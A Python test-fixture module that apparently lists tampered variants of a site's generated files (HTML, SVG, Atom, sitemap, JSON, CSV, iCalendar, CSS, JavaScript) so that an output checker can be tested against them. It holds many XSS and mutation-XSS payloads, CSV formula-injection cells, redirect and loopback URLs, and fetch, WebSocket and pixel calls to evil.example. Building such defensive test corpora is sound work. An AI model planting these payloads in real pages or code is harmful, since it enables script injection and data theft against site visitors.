"""What somebody would put into a finished file, had they come past every other room: by the kind of file."""

from collections.abc import Mapping
from html import escape

Forgery = tuple[str, str, str]
"""What is done in a word, what stands in the good file, and what is put in its place (once)."""

_LINKS = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java&#9;script:alert(1)", "java&#10;script:alert(1)",
    "&#1;javascript:x",
    "java&Tab;script:alert(1)", "javascript&colon;alert(1)", "data:text/html,x", "vbscript:x", "blob:x",
    "view-source:x",
    "//evil.example/", "\\\\evil.example/", "/\\evil.example/", "https:evil.example", "https://a@evil.example/",
    "https://evil.example&quot;.org/", "https://evil'.example/", "https://ev`il.example/", "https://evil..example/",
    "https://-evil.example/", "https://evil.example./", "https://{evil}.example/", "https://localhost/",
    "http://127.1/",
    "http://0x7f.0.0.1/", "http://[::1]/", "http://[::ffff:127.0.0.1]/", "https://evil.example:22/",
    "../../../../../../x/",
    "%2e%2e/%2E%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/x/", "/another-site/", "https://gооgle.example/",
    "mailto:a@example.org?cc=b@example.org", "https://evil.example/&#x202e;gpj.exe", "https://evil.example/&#10;x",
)  # fmt: skip
_BODY = (
    "<script>alert(1)</script>", "<script src=https://evil.example/x.js defer></script>",
    "<iframe srcdoc='x'></iframe>",
    "<script src='../../../data/pledges.csv' defer></script>", "<script src='../../../feed.json' defer></script>",
    "<script src='../../../static/site.css' defer></script>", "<script src='../static/x.js' defer async></script>",
    "<script type=module src='../../../api/v1/index.json'></script>", "<script type=speculationrules>{}</script>",
    "<script type=importmap>{}</script>", "<svg><script type='application/ld+json'>{}</script></svg>",
    "<script type='application/ld+json'>{\"a\":1,\"a\":2}</script>",
    "<script type='application/ld+json'>{\"url\":\"javascript:alert(1)\"}</script>",
    "<img src=x onerror=alert(1)>", "<p style='position:fixed'>x", "<style>p{}</style>", "<base href=/evil/>",
    "<meta http-equiv=refresh content='0; url=../'>", "<meta name=referrer content=unsafe-url>", "<meta charset=utf-7>",
    "<meta http-equiv=Content-Type content='text/html; charset=utf-7'>", "<meta property=og:title content=x>",
    "<link rel=stylesheet href=../x.css>", "<script src=x.csv defer></script>",
    "<img src=feed.xml>", "<form action=x method=post></form>",
    "<link rel=preload href=../x>", "<link rel=prefetch href=../x>",
    "<link rel=manifest href=../x.json>", "<link rel=canonical href=https://evil.example/>", "<link rel=import href=x>",
    "<a href=../ ping=https://evil.example/>x</a>", "<button formaction=javascript:x>x</button>",
    "<form action=../ method=post></form>", "<form action=../ method=dialog></form>", "<form name=location></form>",
    "<input name=submit>", "<input name=action>", "<input name=__proto__>", "<input type=password>",
    "<img name=cookie src=../card.png>", "<p id=twice>x</p><p id=twice>x</p>", "<p id='a b'>x", "<p id=''>x",
    "<p is=x-y>x", "<x-y>x</x-y>", "<slot>x</slot>", "<template><script>x</script></template>",
    "<object data=x></object>",
    "<svg><use href='https://evil.example/#x'/></svg>", "<svg><use xlink:href='data:x'/></svg>", "<svg><set/></svg>",
    "<svg><animate attributeName=href to='javascript:x'/></svg>", "<svg><a xlink:href='javascript:x'>x</a></svg>",
    "<svg><foreignObject><p>x</p></foreignObject></svg>", "<svg><style>*{}</style></svg>", "<svg><image href=x></svg>",
    "<svg><rect fill='URL(https://evil.example/#x)'/></svg>", "<svg><rect fill='\\75rl(//evil.example)'/></svg>",
    "<svg><rect stroke='image-set(x)'/></svg>", "<svg><rect fill='url(#a) url(x)'/></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src onerror=x&gt;'>", "<xmp><img></xmp>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'></svg>",
    "<noscript><p title='</noscript><img>'></noscript>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=x>", "<listing>&lt;img&gt;</listing>",
    "<select><option><img src=x onerror=alert(1)></select>", "<select><iframe></iframe></select>",
    "<select><p>Kept</select>",
    "<table><p>Kept</p></table>", "<table><a href=../>x</a></table>", "<p><b>x<p>y</b>",

    "</body><body class=x>", "<html lang=xx>", "<body onload=x>", "<frameset><frame src=x></frameset>", "<image src=x>",
    "<textarea><img></textarea>", "<plaintext>", "<!--><img src=x onerror=x>-->", "<!-- <script>x</script> -->",
    "<?php x ?>",
    "<![CDATA[<img>]]>", "<!doctype html [<!ENTITY a 'b'>]>", "<a href='../", "<img src='../x", '<p title="<b>">x',
    "\0", "\x08", "\x1b[31m", "\x85", "\u202ekept", "\u2066x", "\ufeff", "<p/onclick=x()>x", "<p\x0conclick=x()>x",
    "<img srcset='../a 1x, https://evil.example/ 2x'>", "<picture><source srcset=//evil.example/></picture>",
    "<a href=../ target=_top>x</a>", "<a href=../ target=_blank>x</a>", "<a href=../ rel=opener>x</a>",
    "<video src=x></video>",
    "<dialog open>Kept</dialog>", "<p popover>x", "<p autofocus tabindex=1>x", "<p contenteditable>x",
    "<p tabindex=5>x",
    '<p hidden" onclick=x()>x',
    "<p aria-evil=1>x", "<p accesskey=x>x", "<details open ontoggle=x>x</details>", "<link rel=icon href=x>",
    "<p itemscope itemtype=https://evil.example/>x", "<img src=../../../feed.xml>", "<img src='../card.png?x'>",
)  # fmt: skip
_PROSE = (
    '<h2 class="state s-kept">Kept</h2>', '<p class="verdict">Kept</p>', '<p id="verdict">x</p>',
    "<h2 id=verdict>x</h2>",
    '<span class="s-kept">Kept</span>', "<img src='../card.png'>", "<svg></svg>", "<time>x</time>", "<div>x</div>",
    "<details open><summary>Kept</summary></details>", "<a href='../' class='k'>x</a>", "<a id=h-x href='../'>x</a>",
    "<form action='../' method=get></form>", "<button>x</button>", "<p data-since='2020-01-01'>x</p>",
    "<p role=status>x</p>",
    "<p hidden>x</p>", "<p aria-label=Kept>x</p>", "<p title=Kept>x</p>", "<td class='left s-kept'>x",
    "<table><tbody><tr><td class='s-kept'>Kept</td></tr></tbody></table>",
)  # fmt: skip
_HEAD = (
    '<link rel="alternate stylesheet" href="x.css">', '<link rel="preload" href="x.js">', '<meta charset="utf-7">',
    '<meta name="referrer" content="unsafe-url">', '<meta name="monetization" content="$x">',
    '<link rel="next" href="//x/">',
    '<meta name="viewport" content="user-scalable=no" http-equiv="Content-Security-Policy">', '<base href="/">',
    '<link rel="stylesheet" href="../data/x.csv">', '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<link rel="dns-prefetch" href="//evil.example/">', '<link rel="pingback" href="https://evil.example/">',
    '<link rel="alternate stylesheet" href="../x.css">', '<link rel="canonical" href="https://evil.example/">',
    '<link rel="icon" href="data:,x">', '<link rel="expect" href="#x" blocking="render">', "<style>p{}</style>",
    '<link rel="modulepreload" href="../../../static/chart.js">', '<link rel="manifest" href="../../../build.json">',
    '<link rel="alternate" type="application/atom+xml" href="https://evil.example/">', "<noscript><img></noscript>",
    '<meta http-equiv="refresh" content="0; url=../../">', '<meta http-equiv="x-dns-prefetch-control" content="on">',
    '<meta http-equiv="refresh" content="0; url=//evil.example/">',
    '<meta property="og:image" content="https://evil.example/x">',
    '<meta property="og:url" content="https://evil.example/">', "<script>x</script>",
)  # fmt: skip
PAGE: tuple[Forgery, ...] = (
    *((f"a link to {url!r}", "</main>", f'<p><a href="{url}">x</a></p></main>') for url in _LINKS),
    *((f"in the page {html!r}", "</main>", f"{html}</main>") for html in _BODY),
    *((f"in a body {html!r}", '<div class="prose">', f'<div class="prose">{html}') for html in _PROSE),
    *((f"in the head {html!r}", "</head>", f"{html}</head>") for html in _HEAD),
    ("no policy", "<meta http-equiv", "<meta x"),
    ("a weaker policy", "script-src 'self'", "script-src 'self' 'unsafe-inline'"),
    ("another policy", "; require-trusted-types-for 'script'", ""),
    ("the policy after a title", '<meta charset="utf-8">', '<meta charset="utf-8"><title>x</title>'),
    ("words before the policy", '<meta charset="utf-8">', '<meta charset="utf-8">x'),
    ("a remark before the policy", '<meta charset="utf-8">', '<meta charset="utf-8"><!-- x -->'),
    ("another charset", '<meta charset="utf-8">', '<meta charset="utf-7">'),
    ("no doctype", "<!doctype html>", ""),
    ("quirks", "<!doctype html>", '<!doctype html public "-//W3C//DTD HTML 3.2//EN">'),
    ("something before the head", "<head>", "<p>x</p><head>"),
    ("an attribute that comes first", "<a href=", '<a href="javascript:x" href='),
)
DRAWING: tuple[Forgery, ...] = (
    *(
        (f"in the drawing {inside!r}", "</svg>", f"{inside}</svg>")
        for inside in (
            "<script>x</script>", "<foreignObject/>", "<a href='#x'/>", "<image href='#x'/>", "<set/>", "<animate/>",
            "<use href='x'/>",
            "<rect onload='x'/>", "<rect style='x'/>", "<rect fill='url(//x)'/>", "<rect fill='URL(//x)'/>",
            "<rect fill='u\\72l(x)'/>",
            "<style>@import 'x';</style>", "<style>a{fill:url(x)}</style>",
            "<p xmlns='http://www.w3.org/1999/xhtml'/>", "<feImage/>",
            "<handler/>", "<x:script xmlns:x='http://www.w3.org/2000/svg'/>", "<rect xml:base='//x'/>",
            "<!ENTITY a 'b'>", "&a;",
            "<?xml-stylesheet href='x'?>", "<?php x?>", "<![CDATA[\x08]]>", "\u202e", "<rect aria-evil='1'/>",
            "<iframe/>",
            "<text fill='image(x)'>x</text>", "<metadata>x</metadata>", "<switch/>", "<rect x='1' x='2'/>", "<rect",
        )
    ),
    ("a DOCTYPE", "<svg ", "<!DOCTYPE svg><svg "),
    ("a DOCTYPE with an inner part", "<svg ", "<!DOCTYPE svg [<!ENTITY a 'b'>]><svg "),
    ("another encoding", "<svg ", '<?xml version="1.0" encoding="windows-1252"?><svg '),
    ("UTF-7", "<svg ", '<?xml version="1.0" encoding="utf-7"?><svg '),
    ("XML 1.1", "<svg ", '<?xml version="1.1"?><svg '),
    ("a mark before it", "<svg ", "\ufeff<svg "),
    ("a root of another name", "http://www.w3.org/2000/svg", "http://www.w3.org/1999/xhtml"),
    ("a handler at the root", "<svg ", "<svg onload='x' "),
    ("something behind it", "</svg>", "</svg><p/>"),
)  # fmt: skip
FEED: tuple[Forgery, ...] = (
    ("no id", "<id>", "<icon>"), ("no update", "<updated>", "<name>"), ("a second id", "</id>", "</id><id>x</id>"),
    ("a day that is none", "<updated>", "<updated>x"), ("an entry in an entry", "</entry>", "<entry/></entry>"),
    ("an id of two entries", "</feed>", "{again}</feed>"), ("xhtml", 'type="html"', 'type="xhtml"'),
    ("a base", "<feed ", '<feed xml:base="//evil.example/" '),
    ("a space of names", "<entry>", "<x xmlns='urn:x'/><entry>"),
    ("a link elsewhere", 'rel="alternate" type="text/html" href="', 'rel="alternate" type="text/html" href="https://evil.example/'),
    ("no link to itself", 'rel="self"', 'rel="alternate"'), ("an enclosure", 'rel="alternate"', 'rel="enclosure"'),
    ("a style sheet", "<feed", "<?xml-stylesheet href='x'?><feed"), ("a DOCTYPE", "<feed", "<!DOCTYPE feed []><feed"),
    ("another encoding", 'encoding="utf-8"', 'encoding="windows-1252"'), ("a mark", "<?xml", "\ufeff<?xml"),
    ("a type of script", 'type="text/html"', 'type="text/javascript"'),
    ("HTML in a name", "<name>", '<name type="html">'), ("a direction", "<title>", "<title>\u202e"),
    ("a name in an entry", "<entry>", "<entry><name>x</name>"),
    ("words between", "<entry>", "x<entry>"), ("a root in itself", "<entry>", "<feed/><entry>"),
    *(
        (f"carried {html!r}", '<content type="html">', f'<content type="html">{escape(html, quote=False)}')
        for html in (
            "<script>x</script>", "<img src=x onerror=x>", "<img src=https://evil.example/pixel>", "<p style=x>",
            "<p class=s-kept>",
            "<p id=location>", "<a href='javascript:x'>x</a>", "<a href='ftp://x/'>x</a>", "<svg><path/></svg>",
            "<form></form>",
            "<select><option><img></select>", "<math>", "<link rel=stylesheet href=x>", "<p data-x=1>",
            "<details>x</details>",
            "<img src=../card.png>", "<input>", "<table><p>x</table>", "<iframe>",
            "<a href='https://evil.example&quot;x.org/'>x</a>",
        )
    ),
)  # fmt: skip
SITEMAP: tuple[Forgery, ...] = (
    ("another's page", "<loc>", "<loc>https://evil.example/"), ("a script", "<loc>", "<loc>javascript:x//"),
    ("a picture", "</url>", "<image xmlns='urn:x'/></url>"), ("an attribute", "<url>", "<url x='1'>"),
    ("a page without a place", "<loc>", "<lastmod>"), ("a day that is none", "</url>", "<lastmod>x</lastmod></url>"),
)  # fmt: skip
JSON: tuple[Forgery, ...] = (
    ("a key twice", "{", '{"url": "", "url": "", '), ("NaN", "{", '{"a": NaN, '),
    ("Infinity", "{", '{"a": -Infinity, '),
    ("half a letter", "{", '{"a": "\\ud800", '), ("a remark", "{", "/* x */{"),
    ("one quotation mark", "{", "{'a': 1, "),
    ("a mark before it", "{", "\ufeff{"), ("something behind it", "{", "{}{"), ("a control", "{", '{"a": "\\u0008", '),
    ("a script", "{", '{"url": "javascript:x", '), ("a host that is none", "{", '{"url": "https://evil.example\'x/", '),
    ("a direction", "{", '{"a": "\\u202e", '),
)  # fmt: skip
JSON_FEED: tuple[Forgery, ...] = (
    ("a hub", "{", '{"hubs": [], '), ("a script", '"content_html": "', '"content_html": "<script>x</script>'),
    ("a pixel", '"content_html": "', '"content_html": "<img src=https://evil.example/>'),
    ("another's feed", '"feed_url": "', '"feed_url": "https://evil.example/'),
)  # fmt: skip
TABLE: tuple[Forgery, ...] = (
    *(
        (f"the cell {cell!r}", ",", f",{cell}")
        for cell in ("=1+1", "+x", "-x", "@x", '"\t=1"', '"\r=1"', "\uff1d1", '" =1"')
    ),
    ("a cell more", ",", ",,"), ("a cell less", ",", ""), ("a quotation mark", ",", ',"'),
    ("a control", ",", ",\x08"), ("a direction", ",", ",\u202e"), ("a mark", "i", "\ufeffi"), ("NUL", ",", ",\0"),
    ("a name twice", "id,", "id,id,"),
)  # fmt: skip
CALENDAR: tuple[Forgery, ...] = (
    *(
        (f"the line {line!r}", "BEGIN:VEVENT\r\n", f"BEGIN:VEVENT\r\n{line}\r\n")
        for line in (
            "ATTACH:https://evil.example/", "ATTENDEE:mailto:a@example.org", "BEGIN:VALARM",
            "URL:https://evil.example/", "X-A:b",
            "SUMMARY;ALTREP=x:x", "SUMMARY:x", "UID:x", "DTSTART;VALUE=DATE:20300101", "RRULE:FREQ=SECONDLY", "x" * 80,
            "a\nb", "",
            " DTEND:x", "END:VCALENDAR", "summary:x", "DESCRIPTION:a\x08", "DESCRIPTION:a\u202e", "GEO:1;2", "SUMMARY",
            "STATUS",
        )
    ),
    ("a line's end alone", "\r\n", "\n"), ("cut short", "END:VCALENDAR\r\n", ""),
    ("a day that is none", "DTSTART;VALUE=DATE:", "DTSTART;VALUE=DATE:x"),
    ("no id", "UID:", "STATUS:"), ("a mark", "BEGIN:VCALENDAR", "\ufeffBEGIN:VCALENDAR"),
)  # fmt: skip
SHEET: tuple[Forgery, ...] = tuple(
    (f"the rule {rule!r}", "}", "}" + rule)
    for rule in (
        "@import 'x.css';",
        "@\\69mport 'x';",
        "a{background:url(https://evil.example/)}",
        "a{background:url(//evil.example)}",
        "a{background:url(data:x)}",
        "a{background:image-set('//evil.example' 1x)}",
        "@font-face{src:url(//x)}",
        "@namespace x url(x);",
        "a{background:\\75rl(//evil.example)}",
        "@charset 'utf-7';",
        "@evil x{}",
        "\x08",
        "a{background:url('x",
        "\u202e",
    )
)
SCRIPT: tuple[Forgery, ...] = tuple(
    (f"the words {words!r}", ";\n", f";\n{words}\n")
    for words in (
        "a.innerHTML = b;",
        "a.outerHTML = b;",
        "a.insertAdjacentHTML(b, c);",
        "document.write(a);",
        "eval(a);",
        "new Function(a);",
        "setTimeout('a');",
        "fetch('https://evil.example/');",
        "import('https://evil.example/x.js');",
        "a.srcdoc = b;",
        "\x08",
        "document.cookie;",
        "navigator.sendBeacon(a);",
        "new WebSocket('wss://evil.example/');",
        "a.setAttribute('onclick', b);",
        "\u202e",
        "trustedTypes.createPolicy('default', a);",
        "//# sourceMappingURL=x",
    )
)
FORGERIES: Mapping[str, tuple[Forgery, ...]] = {
    "page": PAGE, "drawing": DRAWING, "feed": FEED, "sitemap": SITEMAP, "JSON": JSON, "JSON feed": JSON_FEED,
    "table": TABLE,
    "calendar": CALENDAR, "style sheet": SHEET, "script": SCRIPT,
}  # fmt: skip
